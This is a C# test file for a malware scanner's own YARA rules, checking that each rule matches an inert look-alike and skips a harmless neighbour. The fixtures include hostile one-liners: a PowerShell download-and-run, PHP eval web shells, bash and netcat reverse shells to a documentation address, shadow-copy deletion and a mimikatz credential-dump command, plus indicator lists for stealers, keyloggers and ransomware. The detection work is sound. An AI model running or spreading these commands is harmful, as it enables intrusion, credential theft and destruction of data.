using System.Text;
using ScanHost.Pipeline.Stages.Yara;
using ScanHost.TestKit;
using ScanHost.Yara;

namespace ScanHost.Pipeline.Tests.Stages.Yara;

/// <summary>The rules that ScanHost brings: each finds its look-alike, and none its harmless neighbour. The look-alikes do nothing.</summary>
public sealed class OwnRulesTests
{
    private static readonly Lazy<LoadedRules> Loaded = new(() => RuleLoader.Load([], []));

    [Fact]
    public void They_compile_without_a_word()
    {
        Loaded.Value.Diagnostics.Should().BeEmpty();
        Loaded.Value.Set.Rules.All.Where(rule => !rule.IsPrivate).Should().AllSatisfy(rule =>
            rule.Metas.Select(meta => meta.Name).Should().Contain(["description", "score", "attack"]));
    }

    [Theory]
    [InlineData("ScanHost_PowerShell_Download_And_Run", "powershell -nop IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/')")]
    [InlineData("ScanHost_PowerShell_Encoded_Command", "powershell.exe -nop -w hidden -enc QQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEAQQA=")]
    [InlineData("ScanHost_Php_Shell_Runs_Request", "<?php @eval($_POST['x']); ?>")]
    [InlineData("ScanHost_Php_Shell_Runs_Request", "<?php eval(base64_decode($_REQUEST[\"x\"])); ?>")]
    [InlineData("ScanHost_Shell_Reverse_Connection", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")]
    [InlineData("ScanHost_Shell_Reverse_Connection", "nc -e /bin/sh 192.0.2.1 4444")]
    [InlineData("ScanHost_Script_Host_Downloader", "CreateObject(\"WScript.Shell\") CreateObject(\"MSXML2.XMLHTTP\") CreateObject(\"ADODB.Stream\") s.SaveToFile x : w.Run x")]
    [InlineData("ScanHost_Recovery_Sabotage", "vssadmin delete shadows /all /quiet & bcdedit /set {default} recoveryenabled no")]
    [InlineData("ScanHost_Coin_Miner", "stratum+tcp://pool.example.invalid:3333 --donate-level 1 randomx")]
    [InlineData("ScanHost_Credential_Dumper", "privilege::debug sekurlsa::logonpasswords")]
    [InlineData("ScanHost_Program_Of_Xored_Dos_Stub", "Vjkq\"rpmepco\"acllmv\"`g\"pwl\"kl\"FMQ\"omfg")]
    public void A_look_alike_is_found(string rule, string content) => Names(content).Should().Equal(rule);

    [Theory]
    [InlineData("Invoke-WebRequest https://example.invalid/file -OutFile file")]
    [InlineData("powershell -ExecutionPolicy Bypass -File build.ps1")]
    [InlineData("powershell -EncodedCommand is an option that takes base64")]
    [InlineData("<?php echo htmlspecialchars($_GET['x']); eval($code); ?>")]
    [InlineData("nc -l 4444; echo test > /dev/tcp/192.0.2.1/80; bash -i")]
    [InlineData("WScript.Shell MSXML2.XMLHTTP")]
    [InlineData("vssadmin list shadows; bcdedit /enum")]
    [InlineData("stratum+tcp:// is a protocol")]
    [InlineData("sekurlsa::logonpasswords is a command of a tool")]
    [InlineData("This program cannot be run in DOS mode")]
    public void A_harmless_neighbour_is_not(string content) => Names(content).Should().BeEmpty();

    [Fact]
    public void A_program_that_can_inject_is_found_and_a_list_of_functions_is_not()
    {
        const string Functions = "OpenProcess\0VirtualAllocEx\0WriteProcessMemory\0CreateRemoteThread\0";
        var program = new byte[512];
        "MZ"u8.CopyTo(program);
        program[0x3C] = 0x80;
        "PE\0\0"u8.CopyTo(program.AsSpan(0x80));
        Encoding.ASCII.GetBytes(Functions).CopyTo(program, 0x100);

        Names(Encoding.Latin1.GetString(program)).Should().Equal("ScanHost_Program_Injects_Into_Process");
        Names(Functions).Should().BeEmpty();
    }

    /// <summary>Each kind of words of a rule, and what honest programs hold: words of one kind, or of several without the one that binds them.</summary>
    public static TheoryData<string, string, string[]> Programs => new()
    {
        { "ScanHost_Program_Collects_Passwords", "Thunderbird\\Profiles|CoreFTP\\sites.idx|SmtpClient", ["Thunderbird\\Profiles|IMAP Password|SmtpClient", "Login Data|logins.json|api.ipify.org", "Thunderbird\\Profiles|CoreFTP\\sites.idx"] },
        { "ScanHost_Program_Collects_Passwords", "\\Local State|%appdata%\\Ethereum|Coinomi\\wallets|http://192.0.2.1/api", ["\\Local State|wallet.dat|http://192.0.2.1/api", "wallet.dat|exodus.wallet|http://192.0.2.1/api", "\\Local State|wallet.dat|exodus.wallet|https://example.invalid/"] },
        { "ScanHost_Program_Writes_Keys_Down_And_Sends", "{BACK}|{ALT+TAB}|GetKeyboardState|SmtpClient", ["{BACK}|{ALT+TAB}|GetKeyboardState", "{BACK}|GetKeyboardState|SmtpClient", "{BACK}|{ALT+TAB}|SmtpClient"] },
        { "ScanHost_Program_Takes_Wallet_Addresses", "T[A-Za-z1-9]{33}|0x[a-fA-F0-9]{40}|AddClipboardFormatListener|SetText", ["T[A-Za-z1-9]{33}|0x[a-fA-F0-9]{40}|SetText", "0x[a-fA-F0-9]{40}|AddClipboardFormatListener|SetText", "bc1qexample|AddClipboardFormatListener|SetText"] },
        { "ScanHost_Program_Sends_Secrets_To_Chat", "CryptUnprotectData|api.telegram.org|/bot0000:a/sendDocument?chat_id=", ["CryptUnprotectData|api.telegram.org|/sendMessage", "api.telegram.org|/sendDocument", "CryptUnprotectData|https://host.invalid/sendDocument"] },
        { "ScanHost_Program_Of_Remote_Control", "reg ADD HKLM\\SOFTWARE /v EnableLUA /t REG_DWORD /d 0 /f|CurrentVersion\\Run|waveInOpen|keylogger|GetAsyncKeyState", ["reg QUERY HKLM\\SOFTWARE /v EnableLUA|CurrentVersion\\Run|waveInOpen|keylogger|GetAsyncKeyState", "reg ADD /v EnableLUA /t REG_DWORD /d 0 /f|CurrentVersion\\Run|waveInOpen|GetAsyncKeyState", "CurrentVersion\\Run|waveInOpen|keylogger|GetAsyncKeyState"] },
        { "ScanHost_Program_Of_Remote_Control", "RtlSetProcessIsCritical|schtasks|capGetDriverDescriptionA|SecurityCenter2|GetLastInputInfo", ["schtasks|capGetDriverDescriptionA|SecurityCenter2|GetLastInputInfo", "RtlSetProcessIsCritical|schtasks|GetLastInputInfo", "RtlSetProcessIsCritical|VirtualBox|SecurityCenter2|GetLastInputInfo"] },
        { "ScanHost_Program_Ends_Protection", "MsMpEng.exe|ekrn.exe|\\\\.\\TrueSight|DeviceIoControl", ["MsMpEng.exe|ekrn.exe|DeviceIoControl", "MsMpEng.exe|\\\\.\\TrueSight|DeviceIoControl", "MsMpEng.exe|ekrn.exe|avp.exe|xagt.exe|mcshield.exe"] },
        { "ScanHost_Program_Blinds_Scanner", "AmsiScanBuffer|EtwEventWrite|VirtualProtect", ["AmsiScanBuffer|VirtualProtect", "EtwEventWrite|VirtualProtect", "AmsiScanBuffer|EtwEventWriteTransfer|VirtualProtect"] },
    };

    [Theory]
    [MemberData(nameof(Programs))]
    public void A_program_with_words_of_each_kind_is_found(string rule, string hostile, string[] harmless)
    {
        Names(Program(hostile)).Should().Equal(rule);
        Names(hostile.Replace('|', '\0')).Should().BeEmpty("a text that lists the words is no program");
        harmless.Should().AllSatisfy(words => Names(Program(words)).Should().BeEmpty());
    }

    [Theory]
    [InlineData("ScanHost_Locker_Of_Virtual_Machines", "esxcli vm process list|/vmfs/volumes/|.vmdk|RSA_public_encrypt|How to restore your files", "esxcli vm process list|/vmfs/volumes/|.vmdk|RSA_public_encrypt", "/vmfs/volumes/|.vmdk|restore your files|chacha20", "esxcli vm process list|/vmfs/volumes/|.vmdk|restore your files")]
    [InlineData("ScanHost_Locker_Of_Virtual_Machines", "esxcli vm process kill|/vmfs/volumes/|.vmdk|EVP_EncryptUpdate|RESTORE_FILES.txt", "esxcli vm process kill|/vmfs/volumes/|.vmdk|EVP_EncryptUpdate|readme.txt", "/vmfs/volumes/|.vmdk|EVP_EncryptUpdate|RESTORE_FILES.txt", "esxcli vm process list|/vmfs/volumes/|EVP_EncryptUpdate|restore.txt")]
    [InlineData("ScanHost_Linux_Hidden_Door", "HISTFILE=/dev/null|/sbin/udevd -d|qmgr -l -t fifo -u", "HISTFILE=/dev/null|/sbin/udevd -d", "/sbin/udevd -d|qmgr -l -t fifo -u", "HISTFILE=/dev/null|/dev/shm/%s")]
    [InlineData("ScanHost_Linux_Library_Hides_Files", "readdir|dlsym|/etc/ld.so.preload|/proc/self/fd/%d", "readdir|dlsym|/proc/self/fd/%d", "readdir|dlsym|/etc/ld.so.preload", "open|dlsym|/etc/ld.so.preload|/proc/self/fd/%d")]
    [InlineData("ScanHost_Linux_Bot_Spreads", "root:123456|admin:admin|bruteforce|crontab -l ? grep -v", "root:123456|admin:admin|bruteforce", "root:123456|bruteforce|chattr -i", "golang.org/x/crypto/ssh|chattr -i|root:root")]
    public void A_program_of_Linux_with_words_of_each_kind_is_found(string rule, string hostile, params string[] harmless)
    {
        Names(Library(hostile)).Should().Equal(rule);
        harmless.Should().AllSatisfy(words => Names(Library(words)).Should().BeEmpty());
    }

    private static string Program(string words) => Encoding.Latin1.GetString(new PeBuilder().WithData(words.Replace('|', '\0') + "\0").Build());

    private static string Library(string words) => "\u007fELF\u0002\u0001\u0001" + new string('\0', 9) + "\u0003\0>\0" + new string('\0', 44) + words.Replace('|', '\0').Replace('?', '|') + "\0";

    private static IEnumerable<string> Names(string content) =>
        new Scanner(Loaded.Value.Set.Rules).Scan(Encoding.Latin1.GetBytes(content)).Matches.Select(match => match.Rule.Name);
}
